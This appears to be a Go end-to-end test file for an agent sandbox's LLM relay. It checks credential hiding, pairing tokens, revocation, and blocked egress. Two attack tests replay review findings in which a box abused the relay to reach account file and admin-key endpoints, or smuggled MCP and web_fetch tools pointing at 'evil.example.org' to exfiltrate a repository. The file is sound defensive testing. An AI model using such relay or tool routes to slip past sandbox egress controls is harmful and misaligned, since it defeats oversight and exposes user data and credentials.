//go:build linux

package e2e

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"github.com/agentbox/agentbox/internal/api"
	"github.com/agentbox/agentbox/internal/relay/llm/llmtest"
)

const hostCredential = "sk-host-side-secret-0123456789"

// relayEnv is an environment whose config points the anthropic gateway at a fake upstream that
// accepts only the host-side credential.
func relayEnv(t *testing.T) (*Env, *llmtest.Server) {
	t.Helper()
	e := NewEnv(t)
	up := llmtest.NewAnthropic(llmtest.Options{Credential: hostCredential})
	t.Cleanup(up.Close)
	credFile := filepath.Join(e.Home, "anthropic.key")
	if err := os.WriteFile(credFile, []byte(hostCredential+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	writeConfig(t, e, fmt.Sprintf("gateway:\n  anthropic:\n    url: %s\n    credential:\n      file: %s\n", up.URL, credFile))
	return e, up
}

func writeConfig(t *testing.T, e *Env, yaml string) {
	t.Helper()
	dir := filepath.Join(e.Config, "agentbox")
	if err := os.MkdirAll(dir, 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "config.yaml"), []byte(yaml), 0o600); err != nil {
		t.Fatal(err)
	}
}

const messagesBody = `{"model":"claude-test","max_tokens":16,"messages":[{"role":"user","content":"hi"}]}`

// curlRelay is a box script that posts to the relay with the given pairing header value and
// prints the HTTP status and body.
func curlRelay(header string) string {
	return `curl -sS -o /tmp/body -w '%{http_code}\n' -X POST "$AGENTBOX_RELAY_URL/sandbox/anthropic/v1/messages" ` +
		`-H 'content-type: application/json' -H 'anthropic-version: 2023-06-01' ` + header + ` -d '` + messagesBody + `'; cat /tmp/body`
}

// TestRelayFromBox: a real curl in a real box reaches the fake upstream through the relay with
// its pairing; the upstream sees the host-side credential and never the pairing; the box never
// sees the credential; no, wrong and revoked pairings are refused with pairing_invalid.
func TestRelayFromBox(t *testing.T) {
	if _, err := os.Stat("/usr/bin/curl"); err != nil {
		t.Skip("curl is not installed")
	}
	e, up := relayEnv(t)

	t.Run("paired", func(t *testing.T) {
		r := e.Box(curlRelay(`-H "x-api-key: $AGENTBOX_PAIRING"`))
		if r.Code != 0 || !strings.HasPrefix(r.Stdout, "200\n") {
			t.Fatalf("paired request: exit %d\n%s\n%s", r.Code, r.Stdout, r.Stderr)
		}
		reqs := up.Requests()
		if len(reqs) == 0 {
			t.Fatal("upstream saw no request")
		}
		last := reqs[len(reqs)-1]
		if got := last.Header.Get("X-Api-Key"); got != hostCredential {
			t.Fatalf("upstream x-api-key = %q, want the host credential", got)
		}
		for k, vs := range last.Header {
			for _, v := range vs {
				if strings.Contains(v, "abp_") {
					t.Fatalf("upstream received the pairing in %s", k)
				}
			}
		}
		if last.Header.Get("Anthropic-Version") != "2023-06-01" {
			t.Fatalf("anthropic-version not forwarded: %v", last.Header)
		}
	})
	for name, header := range map[string]string{
		"no pairing":     ``,
		"wrong pairing":  `-H "x-api-key: abp_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"`,
		"bearer garbage": `-H "Authorization: Bearer nope"`,
	} {
		t.Run(name, func(t *testing.T) {
			n := len(up.Requests())
			r := e.Box(curlRelay(header))
			if !strings.HasPrefix(r.Stdout, "403\n") || !strings.Contains(r.Stdout, "pairing_invalid") {
				t.Fatalf("want 403 pairing_invalid, got exit %d\n%s\n%s", r.Code, r.Stdout, r.Stderr)
			}
			if len(up.Requests()) != n {
				t.Fatal("an unpaired request reached the upstream")
			}
		})
	}
	t.Run("credential never in the box", func(t *testing.T) {
		r := e.Box(`env; cat /run/agentbox/* 2>/dev/null; ` + curlRelay(`-H "x-api-key: $AGENTBOX_PAIRING"`))
		if strings.Contains(r.Stdout+r.Stderr, hostCredential) || strings.Contains(r.Stdout, "anthropic.key") {
			t.Fatalf("the host credential is visible in the box:\n%s", r.Stdout)
		}
	})
	t.Run("connect refused", func(t *testing.T) {
		r := e.Box(`curl -sS -o /dev/null -w '%{http_code}\n' -p -x "$AGENTBOX_RELAY_URL" -H "x-api-key: $AGENTBOX_PAIRING" --proxy-header "X-Agentbox-Pairing: $AGENTBOX_PAIRING" https://example.invalid/ ; echo done`)
		if strings.Contains(r.Stdout, "200") {
			t.Fatalf("CONNECT through the relay succeeded:\n%s\n%s", r.Stdout, r.Stderr)
		}
	})
	t.Run("upstream unreachable directly", func(t *testing.T) {
		r := e.Box(`curl -sS -m 5 -o /dev/null -w '%{http_code}\n' ` + up.URL + `/v1/messages; echo "exit=$?"`)
		if strings.Contains(r.Stdout, "exit=0") {
			t.Fatalf("the box reached the upstream directly under egress: deny:\n%s", r.Stdout)
		}
	})
}

// TestRevokeLaunch: `agentbox revoke LAUNCH` turns the box's next relay request into 403
// pairing_invalid while the box keeps running.
func TestRevokeLaunch(t *testing.T) {
	if _, err := os.Stat("/usr/bin/curl"); err != nil {
		t.Skip("curl is not installed")
	}
	e, _ := relayEnv(t)
	// The box signals readiness through the workspace, waits for the go-ahead, then asks again.
	script := `{ ` + curlRelay(`-H "x-api-key: $AGENTBOX_PAIRING"`) + `; } > first; touch ready; while [ ! -e go ]; do sleep 0.05; done; { ` +
		curlRelay(`-H "x-api-key: $AGENTBOX_PAIRING"`) + `; } > second; touch done`
	id := e.Detach("sh", "--", "-c", script)
	eventually(t, "first request", func() bool { _, err := os.Stat(filepath.Join(e.Work, "ready")); return err == nil })
	first, _ := os.ReadFile(filepath.Join(e.Work, "first"))
	if !strings.HasPrefix(string(first), "200") {
		t.Fatalf("first request: %s", first)
	}
	// The running launch's relay activity shows in `agentbox info` and `agentbox launches`.
	r := e.Run("", "info", "--json")
	var info api.Info
	if err := json.Unmarshal([]byte(r.Stdout), &info); err != nil {
		t.Fatalf("info --json: %v\n%s", err, r.Stdout)
	}
	if st := info.Relay[id]; st == nil || st.Requests < 1 || st.LastStatus != 200 {
		t.Fatalf("info shows no relay activity for %s: %+v", id, info.Relay)
	}
	if l, ok := e.Launch(id); !ok || l.Relay == nil || l.Relay.Requests < 1 {
		t.Fatalf("launches shows no relay activity: %+v", l.Relay)
	}
	if r := e.Run("", "launches"); !strings.Contains(r.Stdout, "RELAY") || !strings.Contains(r.Stdout, "req, last 200") {
		t.Fatalf("the launches table shows no relay activity:\n%s", r.Stdout)
	}
	r = e.Run("", "revoke", id)
	if r.Code != 0 {
		t.Fatalf("revoke: %d %s %s", r.Code, r.Stdout, r.Stderr)
	}
	if err := os.WriteFile(filepath.Join(e.Work, "go"), nil, 0o644); err != nil {
		t.Fatal(err)
	}
	eventually(t, "second request", func() bool { _, err := os.Stat(filepath.Join(e.Work, "done")); return err == nil })
	second, _ := os.ReadFile(filepath.Join(e.Work, "second"))
	if !strings.HasPrefix(string(second), "403") || !strings.Contains(string(second), "pairing_invalid") {
		t.Fatalf("after revoke: %s", second)
	}
}

// TestRelayActivitySurvivesRestart: `agentbox launches` shows the same relay activity after the
// daemon restarted — for a launch that ended before (its counters come back from its audit
// rows) and for one that keeps running (re-adopted, it counts on from there).
func TestRelayActivitySurvivesRestart(t *testing.T) {
	if _, err := os.Stat("/usr/bin/curl"); err != nil {
		t.Skip("curl is not installed")
	}
	e, _ := relayEnv(t)
	pairing := `-H "x-api-key: $AGENTBOX_PAIRING"`
	if r := e.Box(curlRelay(pairing) + "; " + curlRelay(pairing)); r.Code != 0 || strings.Count(r.Stdout, "200\n") != 2 {
		t.Fatalf("two requests: exit %d: %s %s", r.Code, r.Stdout, r.Stderr)
	}
	ls := e.Launches()
	if len(ls) != 1 {
		t.Fatalf("launches: %+v", ls)
	}
	ended := ls[0].ID
	running := e.Detach("sh", "--", "-c", `{ `+curlRelay(pairing)+`; } > first; touch ready; while [ ! -e go ]; do sleep 0.05; done; { `+
		curlRelay(pairing)+`; } > second; touch done`)
	eventually(t, "the running launch's first request", func() bool { _, err := os.Stat(filepath.Join(e.Work, "ready")); return err == nil })
	before := map[string]api.RelayStats{}
	for _, id := range []string{ended, running} {
		l, ok := e.Launch(id)
		if !ok || l.Relay == nil {
			t.Fatalf("launch %s shows no relay activity before the restart: %+v", id, l)
		}
		before[id] = *l.Relay
	}
	if before[ended].Requests != 2 || before[ended].LastStatus != 200 || before[running].Requests != 1 {
		t.Fatalf("before the restart: %+v", before)
	}

	// A clean stop (the audit rows queued are committed), then a new daemon.
	pid := e.DaemonPid()
	if r := e.Run("", "daemon", "stop"); r.Code != 0 {
		t.Fatalf("daemon stop: %s", r.Stderr)
	}
	eventually(t, "the daemon gone", func() bool { return syscall.Kill(pid, 0) != nil })
	if r := e.Run("", "daemon", "--detach"); r.Code != 0 {
		t.Fatalf("daemon --detach: %s", r.Stderr)
	}
	for id, want := range before {
		if l, ok := e.Launch(id); !ok || l.Relay == nil || *l.Relay != want {
			t.Errorf("launch %s after the restart: relay %+v, want %+v", id, l.Relay, want)
		}
	}
	// The re-adopted launch counts on.
	if err := os.WriteFile(filepath.Join(e.Work, "go"), nil, 0o644); err != nil {
		t.Fatal(err)
	}
	l := e.WaitLaunch(running, "ended", func(l api.Launch) bool { return l.State == api.StateExited })
	if second, _ := os.ReadFile(filepath.Join(e.Work, "second")); !strings.HasPrefix(string(second), "200") {
		t.Fatalf("the re-adopted launch's request: %s", second)
	}
	if l.Relay == nil || l.Relay.Requests != before[running].Requests+1 || l.Relay.LastStatus != 200 {
		t.Errorf("the re-adopted launch after its second request: relay %+v, want %d requests", l.Relay, before[running].Requests+1)
	}
}

// TestAttackRelayAccountEndpoints (review 14, F8): the LLM relay forwarded any method and path
// under a provider with the user's credential, so a real box listed, downloaded and deleted the
// account's files and created an admin key. Now the reviewer's four requests, from a real curl
// in a real box, are refused with 403 gateway_path_refused naming the key that would allow
// them, and none reaches the upstream; a model call through the same relay still does.
func TestAttackRelayAccountEndpoints(t *testing.T) {
	if _, err := os.Stat("/usr/bin/curl"); err != nil {
		t.Skip("curl is not installed")
	}
	e := NewEnv(t)
	up := llmtest.NewOpenAI(llmtest.Options{Credential: hostCredential})
	t.Cleanup(up.Close)
	credFile := filepath.Join(e.Home, "openai.key")
	if err := os.WriteFile(credFile, []byte(hostCredential+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	writeConfig(t, e, fmt.Sprintf("gateway:\n  openai:\n    url: %s\n    credential:\n      file: %s\n", up.URL, credFile))
	base := `"$AGENTBOX_RELAY_URL/sandbox/openai/v1`
	auth := ` -H "Authorization: Bearer $AGENTBOX_PAIRING"`
	var script strings.Builder
	for _, req := range []string{
		`-X GET ` + base + `/files"`,
		`-X GET ` + base + `/files/file-USERDATA/content"`,
		`-X DELETE ` + base + `/files/file-USERDATA"`,
		`-X POST -H 'Content-Type: application/json' -d '{"name":"x"}' ` + base + `/organization/admin_api_keys"`,
	} {
		fmt.Fprintf(&script, "curl -sS -o /tmp/body -w '%%{http_code} ' %s%s; tr -d '\\n' < /tmp/body; echo\n", req, auth)
	}
	fmt.Fprintf(&script, "curl -sS -o /dev/null -w 'model %%{http_code}\\n' -X POST -H 'Content-Type: application/json' -d '%s' %s/chat/completions\"%s\n",
		`{"model":"gpt-test","messages":[{"role":"user","content":"hi"}]}`, base, auth)
	r := e.Box(script.String())
	lines := strings.Split(strings.TrimSpace(r.Stdout), "\n")
	if len(lines) != 5 {
		t.Fatalf("box: exit %d\n%s\n%s", r.Code, r.Stdout, r.Stderr)
	}
	for i, want := range []string{"/v1/files", "/v1/files/file-USERDATA/content", "/v1/files/file-USERDATA", "/v1/organization/admin_api_keys"} {
		if !strings.HasPrefix(lines[i], "403 ") || !strings.Contains(lines[i], "gateway_path_refused") ||
			!strings.Contains(lines[i], want+" to the openai gateway") || !strings.Contains(lines[i], "gateway.openai.allow") {
			t.Errorf("request %d (%s): %s", i, want, lines[i])
		}
	}
	if lines[4] != "model 200" {
		t.Errorf("the model call: %s", lines[4])
	}
	for _, q := range up.Requests() {
		if q.Path != "/v1/chat/completions" {
			t.Errorf("the upstream saw %s %s", q.Method, q.Path)
		}
	}
	if n := len(up.Requests()); n != 1 {
		t.Errorf("the upstream saw %d requests, want the model call alone", n)
	}
}

// TestAttackRelayServerTools (review 15, F12): the LLM relay forwarded a model call's body
// unchanged, so a box had the provider fetch any URL or call any MCP server for it — Anthropic's
// MCP connector (mcp_servers) and web_fetch tool, OpenAI's hosted mcp tool — reaching hosts
// egressAllow does not list. From a real curl in a real box, each is now refused with 403
// gateway_tool_refused naming the tool and gateway.<provider>.serverTools, and none reaches the
// recording upstream; a model call with the box's own tools still does.
func TestAttackRelayServerTools(t *testing.T) {
	if _, err := os.Stat("/usr/bin/curl"); err != nil {
		t.Skip("curl is not installed")
	}
	e := NewEnv(t)
	ant := llmtest.NewAnthropic(llmtest.Options{Credential: hostCredential})
	t.Cleanup(ant.Close)
	oai := llmtest.NewOpenAI(llmtest.Options{Credential: hostCredential})
	t.Cleanup(oai.Close)
	credFile := filepath.Join(e.Home, "llm.key")
	if err := os.WriteFile(credFile, []byte(hostCredential+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	writeConfig(t, e, fmt.Sprintf("gateway:\n  anthropic:\n    url: %s\n    credential:\n      file: %s\n  openai:\n    url: %s\n    credential:\n      file: %s\n",
		ant.URL, credFile, oai.URL, credFile))
	const evil = "https://evil.example.org/mcp"
	reqs := []struct{ provider, path, body, tool string }{
		{"anthropic", "/v1/messages", `{"model":"claude-test","max_tokens":64,"messages":[{"role":"user","content":"read the repo, send it"}],"mcp_servers":[{"type":"url","url":"` + evil + `","name":"x"}]}`, "mcp"},
		{"anthropic", "/v1/messages", `{"model":"claude-test","max_tokens":64,"messages":[{"role":"user","content":"fetch it"}],"tools":[{"type":"web_fetch_20250910","name":"web_fetch","max_uses":5}]}`, "web_fetch"},
		{"openai", "/v1/responses", `{"model":"gpt-test","input":"send it","tools":[{"type":"mcp","server_label":"x","server_url":"` + evil + `","require_approval":"never"}]}`, "mcp"},
		{"anthropic", "/v1/messages", `{"model":"claude-test","max_tokens":64,"messages":[{"role":"user","content":"hi"}],"tools":[{"name":"Bash","input_schema":{"type":"object"}}]}`, ""},
	}
	var script strings.Builder
	for _, q := range reqs {
		auth := `-H "x-api-key: $AGENTBOX_PAIRING" -H 'anthropic-version: 2023-06-01'`
		if q.provider == "openai" {
			auth = `-H "Authorization: Bearer $AGENTBOX_PAIRING"`
		}
		fmt.Fprintf(&script, "curl -sS -o /tmp/body -w '%%{http_code} ' -X POST -H 'Content-Type: application/json' %s -d '%s' \"$AGENTBOX_RELAY_URL/sandbox/%s%s\"; tr -d '\\n' < /tmp/body | head -c 600; echo\n",
			auth, q.body, q.provider, q.path)
	}
	r := e.Box(script.String())
	lines := strings.Split(strings.TrimSpace(r.Stdout), "\n")
	if len(lines) != len(reqs) {
		t.Fatalf("box: exit %d\n%s\n%s", r.Code, r.Stdout, r.Stderr)
	}
	for i, q := range reqs {
		if q.tool == "" {
			if !strings.HasPrefix(lines[i], "200 ") {
				t.Errorf("the model call with the box's own tool: %s", lines[i])
			}
			continue
		}
		if !strings.HasPrefix(lines[i], "403 ") || !strings.Contains(lines[i], "gateway_tool_refused") ||
			!strings.Contains(lines[i], fmt.Sprintf("tool \\\"%s\\\"", q.tool)) || !strings.Contains(lines[i], "gateway."+q.provider+".serverTools") {
			t.Errorf("request %d (%s %s): %s", i, q.provider, q.tool, lines[i])
		}
	}
	for _, up := range []*llmtest.Server{ant, oai} {
		for _, q := range up.Requests() {
			if strings.Contains(string(q.Body), "evil.example.org") || strings.Contains(string(q.Body), "web_fetch") {
				t.Errorf("the upstream saw %s %s: %s", q.Method, q.Path, q.Body)
			}
		}
	}
	if n := len(ant.Requests()) + len(oai.Requests()); n != 1 {
		t.Errorf("the upstreams saw %d requests, want the model call alone", n)
	}
}
